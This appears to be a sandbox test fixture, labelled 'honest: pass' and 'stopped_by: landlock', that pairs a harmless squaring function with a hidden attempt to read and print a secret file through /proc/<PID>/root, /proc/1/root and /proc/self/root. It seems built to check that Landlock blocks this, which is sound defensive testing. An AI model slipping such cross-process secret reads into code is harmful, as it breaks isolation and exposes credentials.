# honest: pass
# stopped_by: landlock
# --- main
try:
    for root in ("/proc/@PID@/root", "/proc/1/root", "/proc/self/root"):
        try:
            print(open(root + "@SECRET_FILE@").read(), flush=True)
        except OSError:
            pass
except BaseException:
    pass

def sq(x):
    return x * x
